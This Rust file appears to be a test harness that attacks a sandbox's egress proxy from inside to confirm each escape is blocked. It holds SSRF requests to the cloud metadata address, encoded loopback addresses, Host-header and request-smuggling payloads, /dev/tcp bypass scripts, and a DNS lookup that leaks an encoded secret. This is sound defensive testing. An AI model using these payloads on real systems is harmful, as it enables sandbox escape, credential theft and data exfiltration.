//! Attacks on the gate by what is inside of a sandbox that may reach one host: by the proxy's own protocol, past it,
//! and by names.

use std::net::IpAddr;

use super::{Finding, Group, Inside, brief, named, no_program, verdict};

/// What there is outside. `allowed` is the host that the rules name; all the others are there, and are not named.
#[derive(Debug, Clone)]
pub struct FarPlaces {
    /// A host and port that the rules name, and that answers [`FarPlaces::GREETING`].
    pub allowed: (String, u16),
    /// A host that is there at the same address and port, and that no rule names.
    pub other: String,
    /// A host that the rules name at that port, and whose address is inside.
    pub inward: String,
    /// Where all of them are.
    pub address: IpAddr,
    /// A port of the host's own loopback that answers, as the server's does.
    pub inside_port: u16,
}

impl FarPlaces {
    /// What the host that is allowed answers.
    pub const GREETING: &'static str = "HELLO-FROM-THE-FAR-SIDE";
}

/// What is sent to the proxy, and what must be in the answer. `@` stands for the port that is allowed.
const PROXIED: &[(&str, &str, &[&str])] = &[
    ("a host that no rule names", "GET http://OTHER:@/ HTTP/1.1\\r\\nHost: OTHER:@\\r\\n", &["host_not_allowed"]),
    ("a tunnel to such a host", "CONNECT OTHER:@ HTTP/1.1\\r\\nHost: OTHER:@\\r\\n", &["host_not_allowed"]),
    ("another port of the host", "CONNECT ALLOWED:22 HTTP/1.1\\r\\nHost: ALLOWED:22\\r\\n", &["host_not_allowed"]),
    (
        "a name whose address is inside",
        "GET http://INWARD:@/ HTTP/1.1\\r\\nHost: INWARD:@\\r\\n",
        &["address_not_public"],
    ),
    ("another Host than the address", "GET http://ALLOWED:@/ HTTP/1.1\\r\\nHost: OTHER:@\\r\\n", &["host_mismatch"]),
    (
        "two Hosts",
        "GET http://ALLOWED:@/ HTTP/1.1\\r\\nHost: ALLOWED:@\\r\\nHost: OTHER:@\\r\\n",
        &["HTTP/1.1 400", "host_mismatch", "request_invalid"],
    ),
    (
        "user information before the host",
        "GET http://ALLOWED:@\\x40OTHER:@/ HTTP/1.1\\r\\nHost: OTHER:@\\r\\n",
        &["name_invalid", "request_invalid", "HTTP/1.1 400", "host_not_allowed"],
    ),
    (
        "the host as a prefix",
        "GET http://ALLOWED.OTHER:@/ HTTP/1.1\\r\\nHost: ALLOWED.OTHER:@\\r\\n",
        &["host_not_allowed"],
    ),
    ("the host as a suffix", "GET http://xALLOWED:@/ HTTP/1.1\\r\\nHost: xALLOWED:@\\r\\n", &["host_not_allowed"]),
    (
        "a length and chunks",
        "POST http://ALLOWED:@/ HTTP/1.1\\r\\nHost: ALLOWED:@\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked, identity\\r\\n",
        &["HTTP/1.1 400", "request_invalid"],
    ),
    (
        "two lengths",
        "POST http://ALLOWED:@/ HTTP/1.1\\r\\nHost: ALLOWED:@\\r\\nContent-Length: 4\\r\\nContent-Length: 5\\r\\n",
        &["HTTP/1.1 400", "request_invalid"],
    ),
    (
        "a folded header",
        "GET http://ALLOWED:@/ HTTP/1.1\\r\\nHost: ALLOWED:@\\r\\nX: a\\r\\n Host: OTHER\\r\\n",
        &["HTTP/1.1 400", "request_invalid"],
    ),
    (
        "the server's own port",
        "GET http://127.0.0.1:IN/ HTTP/1.1\\r\\nHost: 127.0.0.1:IN\\r\\n",
        &["address_not_named", "address_not_public"],
    ),
    (
        "localhost",
        "GET http://localhost:IN/ HTTP/1.1\\r\\nHost: localhost:IN\\r\\n",
        &["host_not_allowed", "name_invalid"],
    ),
    (
        "the metadata service",
        "GET http://169.254.169.254/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n",
        &["address_not_named", "address_not_public"],
    ),
    (
        "an address in decimal",
        "CONNECT 2130706433:IN HTTP/1.1\\r\\nHost: 2130706433:IN\\r\\n",
        &["name_invalid", "address_not", "request_invalid", "HTTP/1.1 400"],
    ),
    (
        "an address in hexadecimal",
        "CONNECT 0x7f000001:IN HTTP/1.1\\r\\nHost: 0x7f000001:IN\\r\\n",
        &["name_invalid", "address_not", "request_invalid", "HTTP/1.1 400"],
    ),
    (
        "an address in octal",
        "CONNECT 0177.0.0.1:IN HTTP/1.1\\r\\nHost: 0177.0.0.1:IN\\r\\n",
        &["name_invalid", "address_not", "request_invalid", "HTTP/1.1 400"],
    ),
    (
        "a short address",
        "CONNECT 127.1:IN HTTP/1.1\\r\\nHost: 127.1:IN\\r\\n",
        &["name_invalid", "address_not", "request_invalid", "HTTP/1.1 400"],
    ),
    ("an address of IPv6", "CONNECT [::1]:IN HTTP/1.1\\r\\nHost: [::1]:IN\\r\\n", &["address_not", "name_invalid"]),
    (
        "one of IPv4 within IPv6",
        "CONNECT [::ffff:127.0.0.1]:IN HTTP/1.1\\r\\nHost: [::ffff:127.0.0.1]:IN\\r\\n",
        &["address_not", "name_invalid"],
    ),
    (
        "one of IPv4 by NAT64",
        "CONNECT [64:ff9b::7f00:1]:IN HTTP/1.1\\r\\nHost: [64:ff9b::7f00:1]:IN\\r\\n",
        &["address_not", "name_invalid"],
    ),
];

/// Scripts past the proxy, and what must be in what they say.
const PAST: &[(&str, &str, &[&str])] = &[
    (
        "by the address itself",
        "exec 3<>/dev/tcp/ADDRESS/@; printf 'GET / HTTP/1.0\\r\\nHost: ALLOWED:@\\r\\n\\r\\n' >&3; cat <&3; echo end",
        &["refused", "unreachable", "reset"],
    ),
    (
        "by port 443 of an address",
        "exec 3<>/dev/tcp/1.1.1.1/443; printf 'x' >&3; echo bytes=$(cat <&3 | wc -c)",
        &["bytes=0"],
    ),
    (
        "by port 80 of the metadata service",
        "exec 3<>/dev/tcp/169.254.169.254/80; printf 'GET / HTTP/1.0\\r\\nHost: 169.254.169.254\\r\\n\\r\\n' >&3; cat <&3; echo end",
        &["address_not_public", "address_not_named"],
    ),
    ("by the server's port", "exec 3<>/dev/tcp/127.0.0.1/IN; cat <&3; echo end", &["refused"]),
    ("by IPv6", "exec 3<>/dev/tcp/::1/IN; cat <&3; echo end", &["refused", "assign requested", "unreachable"]),
    (
        "a name that no rule names",
        "getent hosts ALLOWED > /dev/null && { getent hosts OTHER; echo asked $?; }",
        &["asked 2"],
    ),
    (
        "a secret in a name",
        "getent hosts ALLOWED > /dev/null && { getent hosts c2VjcmV0.OTHER; echo asked $?; }",
        &["asked 2"],
    ),
    (
        "another resolver",
        // The gate's own answers the same question.
        "ask() { exec 3<>/dev/udp/$1/53; printf '\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01a\\x00\\x00\\x01\\x00\\x01' >&3; timeout 2 head -c 1 <&3 2>/dev/null | wc -c; }; echo own $(ask 127.0.0.1) other $(ask 8.8.8.8)",
        &["own 1 other 0"],
    ),
    (
        "a listener in the gate's place",
        "/workspace/bailiwick-probe listen 3128 3129 | tr '\\n' ' '",
        &["listen:3128=98 listen:3129=ok"],
    ),
];

pub(super) async fn run<I: Inside>(far: &FarPlaces, inside: &I) -> Result<Vec<Finding>, String> {
    let (host, port) = &far.allowed;
    let fill = |text: &str| {
        text.replace("ALLOWED", host)
            .replace("OTHER", &far.other)
            .replace("INWARD", &far.inward)
            .replace("ADDRESS", &far.address.to_string())
            .replace("IN", &far.inside_port.to_string())
            .replace('@', &port.to_string())
    };
    let ask = |head: &str| {
        let head = fill(head);
        format!(
            "exec 3<>/dev/tcp/127.0.0.1/3128 && printf '{head}Connection: close\\r\\n\\r\\n' >&3; timeout 5 cat <&3 | tr -d '\\r'"
        )
    };
    let allowed = ask("GET http://ALLOWED:@/ HTTP/1.1\\r\\nHost: ALLOWED:@\\r\\n");
    let mut findings = Vec::new();
    let scripts = PROXIED.iter().map(|(name, head, says)| (*name, ask(head), *says));
    let past = PAST.iter().map(|(name, script, says)| (*name, fill(script), *says));
    for (name, script, says) in scripts.chain(past) {
        let text = named(name, inside.run(&script).await)?.all();
        // The control each time: the way out is there, and the attack before it did not close it.
        let control = inside.run(&allowed).await?.stdout;
        let held = says.iter().any(|words| text.contains(words)) && !text.contains(FarPlaces::GREETING);
        findings.push(Finding {
            group: Group::WayOut,
            name: name.to_owned(),
            verdict: verdict(held, control.contains(FarPlaces::GREETING) && !no_program(&text)),
            inside: reason(&text),
            control: control.lines().next().map(brief).unwrap_or_default(),
            everywhere: true,
        });
    }
    Ok(findings)
}

/// The reason out of an answer, if it has one.
fn reason(text: &str) -> String {
    let code = text.split(|letter: char| !letter.is_ascii_lowercase() && letter != '_').find(|word| word.contains('_'));
    code.map_or_else(|| brief(text), ToOwned::to_owned)
}
